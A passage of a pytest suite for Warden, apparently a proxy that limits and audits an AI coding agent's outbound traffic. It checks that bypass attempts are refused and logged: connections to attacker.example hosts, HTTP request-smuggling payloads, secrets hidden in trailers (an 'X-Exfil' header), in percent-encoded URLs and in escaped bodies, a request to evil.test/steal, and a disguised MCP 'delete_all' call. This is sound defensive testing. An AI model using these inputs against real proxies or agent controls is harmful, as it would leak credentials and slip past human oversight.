    wrapper.chmod(0o755)
    monkeypatch.setattr(harness, "WARDEN", str(wrapper))
    rules = {
        "agents": [{"id": "coder", "token_sha256": [sha256_hex(TOKEN)], "policies": ["p"]}],
        "policies": {"p": {"allow": [
            {"id": "loopback", "cidr": "127.0.0.0/8", "ports": [443, 8443]},
            {"id": "zone", "domain": "zone.bypass.test", "ports": [443]},
            {"id": "control", "host": "control.bypass.test", "ports": [443]},
        ]}},
        "deny": [{"id": "no-evil", "host": "evil.zone.bypass.test"}],
        "settings": {"hosts_file": str(hosts_file(tmp_path / "hosts")), "explain_denials": "status",
                     "resolve_timeout_seconds": 3},
    }
    with run_dns_server("127.0.0.1") as dns:
        w = start_warden(tmp_path, rules, upstream_ca=origin_ca_file, confdir=shared_confdir, agents={"coder": TOKEN})
        try:
            refused = {"data.attacker.example:443": "no_matching_rule",
                       "data2.attacker.example:8443": "no_matching_rule",  # a port the cidr rule covers
                       "data3.attacker.example:22": "no_matching_rule",
                       "evil.zone.bypass.test:443": "deny_listed",
                       "x.zone.bypass.test:22": "port_not_allowed"}
            for authority, reason in refused.items():
                sock, status, head = connect_raw(w, "coder", authority)
                sock.close()
                assert status == 403 and f"X-Warden-Reason: {reason}".encode().lower() in head.lower(), head
            # positive control: a name a host rule allows, absent from every hosts file, IS looked up
            # through the stand-in (NXDOMAIN -> resolve_failed), so the stand-in is the resolver
            sock, status, head = connect_raw(w, "coder", "control.bypass.test:443")
            sock.close()
            assert status == 502 and b"resolve_failed" in head.lower(), head
            assert wait_until(lambda: dns.queried("control.bypass.test"))
            for name in ("attacker.example", "evil.zone.bypass.test", "x.zone.bypass.test"):
                assert not dns.queried(name), dns.names
        finally:
            w.stop()
    check = subprocess.run([harness.VENV_BIN.joinpath("warden").as_posix(), "check", str(tmp_path / "rules")],
                           capture_output=True, text=True, timeout=60)
    assert check.returncode == 0, check.stderr
    assert "cidr rules" in check.stdout and "IP literals only" in check.stdout, check.stdout


# -- the invariant: an allowed intercepted tunnel carries only requests Warden decided and audited ----
Outcome = int | None  # a response status, or None: closed without an answer
Drive = Callable[[Warden, int], tuple[list[Outcome], list[int]]]


def _tls_http1(alpn: list[str] | None, *writes: bytes, responses: int = 1) -> Drive:
    def drive(w: Warden, port: int) -> tuple[list[Outcome], list[int]]:
        outcomes: list[Outcome] = []
        with open_tunnel(w, "coder", "api.test", port, alpn=alpn) as s:
            client_port = s.getsockname()[1]
            for i, chunk in enumerate(writes):
                if i:
                    time.sleep(PAUSE)
                s.sendall(chunk.replace(b"PORT", str(port).encode()))
            for _ in range(responses):
                try:
                    outcomes.append(read_response(s).status)
                except http_client_errors():
                    outcomes.append(None)
                    break
        return outcomes, [client_port]
    return drive


def http_client_errors() -> tuple[type[BaseException], ...]:
    import http.client

    return (http.client.RemoteDisconnected, http.client.BadStatusLine, ConnectionError, ssl.SSLError, TimeoutError)


def _plain(*writes: bytes) -> Drive:
    def drive(w: Warden, port: int) -> tuple[list[Outcome], list[int]]:
        with open_tunnel(w, "coder", "api.test", port, tls=False) as s:
            client_port = s.getsockname()[1]
            for i, chunk in enumerate(writes):
                if i:
                    time.sleep(PAUSE)
                s.sendall(chunk.replace(b"PORT", str(port).encode()))
            try:
                return [read_response(s).status], [client_port]
            except http_client_errors():
                return [None], [client_port]
    return drive


def _raw_after_tls(alpn: list[str] | None, payload: bytes) -> Drive:
    def drive(w: Warden, port: int) -> tuple[list[Outcome], list[int]]:
        try:
            s = open_tunnel(w, "coder", "api.test", port, alpn=alpn)
        except (ssl.SSLError, ConnectionError):  # the handshake itself refused
            return [None], []
        with s:
            client_port = s.getsockname()[1]
            try:
                s.sendall(payload)
            except (BrokenPipeError, ConnectionResetError):
                # refused while the payload was still being written (a reset: every abort is one);
                # the invariant checks below still require the audit record of that refusal
                answer = None
            else:
                answer = closed_without_answer(s)
        return [None if answer is None else int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else -1], \
            [client_port]
    return drive


def _h2(alpn: list[str]) -> Drive:
    def drive(w: Warden, port: int) -> tuple[list[Outcome], list[int]]:
        from .bypass_helpers import h2_get

        with open_tunnel(w, "coder", "api.test", port, alpn=alpn) as s:
            client_port = s.getsockname()[1]
            assert isinstance(s, ssl.SSLSocket)
            if s.selected_alpn_protocol() == "h2":
                return [h2_get(s, f"api.test:{port}", "/ok/inv-h2"),
                        ], [client_port]
            # not negotiated: an HTTP/2 preface on an HTTP/1 (or undecided) connection
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            answer = closed_without_answer(s)
            return [None if answer is None else int(answer.split(b" ", 2)[1])], [client_port]
    return drive


def _split_hello() -> Drive:
    def drive(w: Warden, port: int) -> tuple[list[Outcome], list[int]]:
        from .bypass_helpers import SplitHelloTLS

        sock, status, head = connect_raw(w, "coder", f"api.test:{port}")
        assert status == 200, head
        client_port = sock.getsockname()[1]
        tls = SplitHelloTLS(sock, client_tls(w), "api.test", 3, PAUSE)
        try:
            tls.sendall(f"GET /ok/inv-split-hello HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n".encode())
            resp = tls.read_response()
            return [resp.status if resp else None], [client_port]
        finally:
            tls.close()
    return drive


def _ws_upgrade() -> Drive:
    return _tls_http1(None, b"GET /ok/inv-ws HTTP/1.1\r\nHost: api.test:PORT\r\nUpgrade: websocket\r\n"
                      b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")


GET_OK = b"GET /ok/inv HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n"
INVARIANT_CASES: dict[str, Drive] = {
    "http1-tls-no-alpn": _tls_http1(None, GET_OK),
    "http1-tls-alpn-http1": _tls_http1(["http/1.1"], GET_OK),
    "http1-tls-alpn-h2-and-http1": _tls_http1(["h2", "http/1.1"], GET_OK),
    "http2-tls-alpn-h2": _h2(["h2"]),
    "tls-unknown-alpn-http1": _tls_http1(["x-tunnel/1"], GET_OK),  # not negotiated: plain TLS, then HTTP
    "tls-unknown-alpn-raw": _raw_after_tls(["x-tunnel/1"], b"\x00tunnelled protocol\n"),
    "raw-bytes-after-tls": _raw_after_tls(None, b"\x00\x01\x02\x03 not http\n"),
    "raw-bytes-no-tls": _plain(b"\x05\x01\x00 socks greeting\n"),
    "cleartext-http-no-tls": _plain(GET_OK),
    "split-request-line": _tls_http1(None, b"G", b"ET /ok/inv-split HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n"),
    "split-request-line-denied": _tls_http1(None, b"GE", b"T /nope HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n"),
    "split-headers": _tls_http1(None, b"GET /ok/inv-hdr HTTP/1.1\r\nHo", b"st: api.test:PORT\r\n\r\n"),
    "split-client-hello": _split_hello(),
    "websocket-upgrade": _ws_upgrade(),
    "h2c-upgrade": _tls_http1(None, b"GET /ok/inv-h2c HTTP/1.1\r\nHost: api.test:PORT\r\nConnection: Upgrade, "
                              b"HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
    "pipelined-allowed-then-denied": _tls_http1(None, GET_OK + b"GET /nope HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n",
                                                responses=2),
    "smuggling-cl-te": _tls_http1(None, b"POST /ok/inv-te HTTP/1.1\r\nHost: api.test:PORT\r\nContent-Length: 48\r\n"
                                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /nope HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n",
                                  responses=2),
    "host-header-elsewhere": _tls_http1(None, b"GET /ok/inv HTTP/1.1\r\nHost: other.test\r\n\r\n"),
    "absolute-form-same-host": _tls_http1(None, b"GET https://api.test:PORT/ok/inv-abs HTTP/1.1\r\n"
                                          b"Host: api.test:PORT\r\n\r\n"),
    "http-1.0": _tls_http1(None, b"GET /ok/inv-10 HTTP/1.0\r\nHost: api.test:PORT\r\n\r\n"),
    "no-newline-flood": _raw_after_tls(None, b"G" * (70 * 1024)),
    "connect-inside-tunnel": _tls_http1(None, b"CONNECT other.test:PORT HTTP/1.1\r\nHost: other.test:PORT\r\n\r\n"
                                        b"GET /nope HTTP/1.1\r\nHost: other.test:PORT\r\n\r\n"),
    "asterisk-form": _tls_http1(None, b"OPTIONS * HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n"),
    "duplicate-host-headers": _tls_http1(None, b"GET /ok/inv-dup HTTP/1.1\r\nHost: api.test:PORT\r\n"
                                         b"Host: other.test\r\n\r\n"),
    "lowercase-method": _tls_http1(None, b"get /nope HTTP/1.1\r\nHost: api.test:PORT\r\n\r\n"),
    "bare-lf-request": _tls_http1(None, b"GET /ok/inv-lf HTTP/1.1\nHost: api.test:PORT\n\n"),
}


@pytest.mark.parametrize("case", list(INVARIANT_CASES))
def test_invariant_origin_sees_only_decided_and_audited_requests(w: Warden, tls_origin: LoggingOrigin,
                                                                 case: str) -> None:
    # Only records written from here on: a client port of this case may have been an earlier
    # test's too (the kernel reuses a port at once when the server closed first).
    already = len(w.audit_records())
    outcomes, client_ports = INVARIANT_CASES[case](w, tls_origin.port)
    assert outcomes, case

    def mine(r: dict[str, Any]) -> bool:
        return r.get("client_port") in client_ports and r.get("event") in ("request", "tunnel_refused")

    # Every answer the agent got, and every close, was recorded: wait for as many records.
    expected = len([o for o in outcomes if o is not None]) + (1 if None in outcomes else 0)
    records = [r for r in w.audit_records(lambda rs: len([r for r in rs[already:] if mine(r)]) >= expected,
                                          timeout=10)[already:] if mine(r)]
    # An allowed request mitmproxy then refused itself (e.g. both Content-Length and
    # Transfer-Encoding: smuggling) carries an error and no status; it must not reach the origin.
    allowed = [r for r in records if r["event"] == "request" and r["decision"] == "allow" and not r.get("error")]
    seen = tls_origin.requests
    # the origin saw exactly the allowed, audited requests (method and path), nothing else
    assert sorted((r.method, r.target) for r in seen) == sorted((r["method"], r["path"]) for r in allowed), \
        (case, [(r.method, r.target) for r in seen], records)
    for conn in tls_origin.connections:
        assert conn.leftover == b"", (case, conn.leftover[:200])
    assert tls_origin.total_bytes == sum(r.raw_size for r in seen), case
    if None in outcomes and client_ports:
        refused = [r for r in records if r["event"] == "tunnel_refused"]
        assert refused or any(r["event"] == "request" and (r["decision"] == "deny" or r.get("error"))
                              for r in records), \
            (case, "closed without an audit record", records)
    for o, r in zip([o for o in outcomes if o is not None],
                    [r for r in records if r["event"] == "request" and not r.get("error")], strict=False):
        assert (o == 200) == (r["decision"] == "allow"), (case, outcomes, records)


def test_small_chunks_of_a_streamed_upload_arrive_as_one_request(w: Warden, tls_origin: LoggingOrigin) -> None:
    """The leak scanner holds small chunks back (a stream callable then returns no chunk). No
    stage may turn "nothing yet" into an empty chunk: over chunked HTTP/1 that is the body's
    end, and the rest of the body would reach the origin as further requests nobody decided."""
    port = tls_origin.port
    smuggled = f"GET /nope/smuggled HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n".encode()
    pieces = [b"a" * 10, b"b" * 10, smuggled, b"c" * 10]
    with open_tunnel(w, "coder", "api.test", port) as s:
        s.sendall(f"POST /ok/chunks HTTP/1.1\r\nHost: api.test:{port}\r\nTransfer-Encoding: chunked\r\n\r\n"
                  .encode())
        for piece in pieces:
            s.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            time.sleep(0.05)  # one chunk per read on Warden's side
        s.sendall(b"0\r\n\r\n")
        resp = read_response(s, "POST")
    assert resp.status == 200, resp
    seen = [r for r in tls_origin.requests if r.target in ("/ok/chunks", "/nope/smuggled")]
    assert [(r.method, r.target) for r in seen] == [("POST", "/ok/chunks")], seen
    assert seen[0].body_size == sum(len(p) for p in pieces)


def test_refused_floods_close_promptly_and_leak_no_sockets(w: Warden, tls_origin: LoggingOrigin) -> None:
    """A client still sending while Warden refuses its tunnel is closed at once, every time.

    mitmproxy leaves the client socket open when the close lands while its reader waits for
    the event lock (runtime/sockets.py); before the fix most of these hung for >10 s and each
    held a file descriptor in Warden."""
    fds = Path(f"/proc/{w.proc.pid}/fd")
    before = len(list(fds.iterdir()))
    for _ in range(8):
        started = time.monotonic()
        with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
            try:
                s.sendall(b"G" * (70 * 1024))
            except (BrokenPipeError, ConnectionResetError):
                pass  # closed while the flood was still being written: at once, without an answer
            else:
                assert closed_without_answer(s, timeout=5) is None
        assert time.monotonic() - started < 5
    # the sockets are closed on Warden's side too (bounded wait: the close is asynchronous)
    assert wait_until(lambda: len(list(fds.iterdir())) <= before + 1, timeout=5), \
        (before, len(list(fds.iterdir())))
    assert not tls_origin.requests


# -- 7. bounded memory for any body size ---------------------------------------------------------
def test_large_bodies_stream_with_bounded_memory(origin_ca: trustme.CA, origin_ca_file: Path,
                                                 shared_confdir: Path, tmp_path: Path) -> None:
    """256 MiB down (redacted on the fly) and 64 MiB up (leak-scanned on the fly) through an
    intercepted credential host: Warden's peak RSS grows by less than 96 MiB. (The 1 GiB / 64 MiB
    target is measured by bench/bench_memory.py, not here.)"""
    from .memory_scenario import MIB, REDACTED, measure, planted
    from .memory_scenario import SECRET as MEM_SECRET

    size = 256 * MIB
    r = measure(tmp_path, origin_ca, origin_ca_file, download=size, upload=64 * MIB, confdir=shared_confdir)
    assert not r.secret_seen_by_agent and r.redactions == planted(size), r
    assert r.downloaded == size - planted(size) * (len(MEM_SECRET) - len(REDACTED)), r
    assert r.download_growth_mib < 96, f"peak RSS grew {r.download_growth_mib:.1f} MiB for a 256 MiB download"
    assert r.upload_received == 64 * MIB
    assert r.leak_status == 403 and not r.leak_reached_origin
    assert r.upload_growth_mib < 96, f"peak RSS grew {r.upload_growth_mib:.1f} MiB for 64 MiB uploads"


# -- after the fixes, with fresh eyes: other ways a secret could leave --------------------------------
def test_secret_in_chunked_trailers_never_reaches_another_host(w: Warden, tls_origin: LoggingOrigin) -> None:
    """Trailers are headers too: a secret in a chunked request's trailer section must not pass."""
    port = tls_origin.port
    with open_tunnel(w, "coder", "api.test", port) as s:
        s.sendall(f"POST /ok/trailer HTTP/1.1\r\nHost: api.test:{port}\r\nTransfer-Encoding: chunked\r\n"
                  f"Trailer: X-Exfil\r\n\r\n5\r\nhello\r\n0\r\nX-Exfil: {SECRET}\r\n\r\n".encode())
        try:
            resp: Any = read_response(s, "POST")
        except (ConnectionError, ssl.SSLError, OSError) as e:
            resp = e
    _no_secret_in(tls_origin)
    if not isinstance(resp, BaseException):
        # refused as a leak, or (mitmproxy 12.3 cannot carry HTTP/1 trailers) as a trailer
        assert (resp.status == 403 and resp.headers.get("x-warden-reason") == "secret_leak") or \
            (resp.status == 400 and b"trailer fields are not supported" in resp.body), resp


@pytest.mark.parametrize("where", ["path", "query"])
def test_partly_percent_encoded_secret_in_url_is_a_leak(w: Warden, tls_origin: LoggingOrigin, where: str) -> None:
    """Every server decodes %XX in a URL: `%67hp_...` is the secret to the origin, though no
    single encoding of the leak guard's list spells it that way."""
    from urllib.parse import unquote

    port = tls_origin.port
    disguised = "%" + format(ord(SECRET[0]), "02x") + SECRET[1:]
    target = f"/ok/{disguised}" if where == "path" else f"/ok/q?token={disguised}"
    with open_tunnel(w, "coder", "api.test", port) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n".encode())
        resp = read_response(s)
    assert not any(SECRET in unquote(r.target) for r in tls_origin.requests), "the origin received the secret"
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "secret_leak", resp
    # ... and the refused URL in the audit record does not spell it either
    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "secret_leak"
                      and r.get("client_port") is not None and "REDACTED" in (r.get("path") or ""))
    assert rec, "the refused URL was not scrubbed"
    assert SECRET not in unquote(w.audit_path.read_text()) and SECRET[1:] not in w.audit_path.read_text()


def test_credential_host_by_ip_literal_is_leak_guarded(mcp_env: dict[str, Any]) -> None:
    """Finding 12 for credential hosts: the credential host's address reached by its IP literal is
    intercepted, nothing is injected (the credential is bound to the name), and its secret sent
    there by the agent is a leak."""
    srv, w = mcp_env["srv"], mcp_env["warden"]
    with open_tunnel(w, "coder", "127.0.0.1", srv.port) as s:
        s.sendall(f"GET /health HTTP/1.1\r\nHost: 127.0.0.1:{srv.port}\r\nX-Key: {MCP_SECRET}\r\n\r\n".encode())
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "secret_leak", resp
    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("host") == "127.0.0.1"
                      and r.get("path") == "/health")[-1]
    assert rec["interception"] == "intercept" and rec["credential_ids"] == []


def test_http2_authority_must_name_the_tunnel_host(mcp_env: dict[str, Any]) -> None:
    """HTTP/2 carries the authority in `:authority`: a mismatch is host_mismatch, as for HTTP/1."""
    from .bypass_helpers import h2_get

    w, h2srv = mcp_env["warden"], mcp_env["h2"]
    before = len(h2srv.requests)
    with open_tunnel(w, "coder", "mcp.test", h2srv.port, alpn=["h2"]) as s:
        assert isinstance(s, ssl.SSLSocket) and s.selected_alpn_protocol() == "h2"
        assert h2_get(s, "evil.test", "/steal") == 403
    assert len(h2srv.requests) == before
    audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "host_mismatch"
                and r.get("path") == "/steal")


@pytest.mark.parametrize("content_type,body", [
    ("application/json", json.dumps({"token": "\\u" + format(ord(SECRET[0]), "04x") + SECRET[1:]})
     .replace("\\\\u", "\\u")),
    ("application/x-www-form-urlencoded", "token=%" + format(ord(SECRET[0]), "02x") + SECRET[1:]),
], ids=["json-unicode-escape", "form-percent"])
def test_secret_disguised_in_a_body_syntax_is_a_leak(w: Warden, tls_origin: LoggingOrigin, content_type: str,
                                                      body: str) -> None:
    port = tls_origin.port
    with open_tunnel(w, "coder", "api.test", port) as s:
        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{port}", {"Content-Type": content_type},
                                body.encode()))
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "secret_leak", resp


@pytest.mark.parametrize("variant", ["gzip", "text-plain", "no-content-type", "batch-in-gzip"])
def test_mcp_message_in_another_wrapping_is_still_decided(mcp_env: dict[str, Any], variant: str) -> None:
    """A denied call compressed, or labelled as something other than JSON, is still decided as MCP
    (or refused): a server that decodes or ignores the label must never run it."""
    srv, w, port = mcp_env["srv"], mcp_env["warden"], mcp_env["port"]
    srv.calls.clear()
    message: Any = [_call("delete_all", 41)] if variant == "batch-in-gzip" else _call("delete_all", 41)
    body = json.dumps(message).encode()
    headers = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    if variant in ("gzip", "batch-in-gzip"):
        body, headers["Content-Encoding"] = gzip.compress(body), "gzip"
    elif variant == "text-plain":
        headers["Content-Type"] = "text/plain"
    else:
        del headers["Content-Type"]
    resp = _raw_mcp(mcp_env, request_bytes("POST", "/mcp", f"mcp.test:{port}", headers, body))
    assert "deleted everything" not in resp.text
    assert "delete_all" not in srv.calls
    if resp.status == 200:
        data = json.loads(gzip.decompress(resp.body) if resp.headers.get("content-encoding") == "gzip" else resp.body)
        items = data if isinstance(data, list) else [data]
        assert all("error" in i or i.get("result", {}).get("isError") for i in items), data
    else:
        assert resp.status in (400, 403, 406, 415), resp
    audit_where(w, lambda r: r.get("event") in ("mcp", "request") and r.get("decision") == "deny"
                and r.get("port") == port and r.get("path") == "/mcp")


def test_plain_http_proxy_connection_carries_only_decided_requests(w: Warden, plain_origin: LoggingOrigin) -> None:
    """The explicit proxy's own connection: a split first write and junk after a request are
    decided or refused, never relayed."""
    from .bypass_helpers import proxy_auth

    port = plain_origin.port
    auth = proxy_auth("coder", TOKEN)
    with socket.create_connection(("127.0.0.1", w.port), timeout=15) as s:
        s.sendall(b"G")
        time.sleep(PAUSE)
        s.sendall(f"ET http://api.test:{port}/forbidden HTTP/1.1\r\nHost: api.test:{port}\r\n"
                  f"Proxy-Authorization: {auth}\r\n\r\n".encode())
        resp = read_response(s)
        assert resp.status == 403 and resp.headers["x-warden-reason"] == "path_not_allowed", resp
        s.sendall(f"GET http://api.test:{port}/ok/plain HTTP/1.1\r\nHost: api.test:{port}\r\n"
                  f"Proxy-Authorization: {auth}\r\n\r\n".encode())
        assert read_response(s).status == 200
        s.sendall(b"\x00\x01\x02 junk that is not HTTP\r\n\r\n")
        answer = closed_without_answer(s)
        assert answer is None or answer.startswith(b"HTTP/1.1 400"), answer
    assert [(r.method, r.target) for r in plain_origin.requests] == [("GET", "/ok/plain")]
    for conn in plain_origin.connections:
        assert conn.leftover == b""
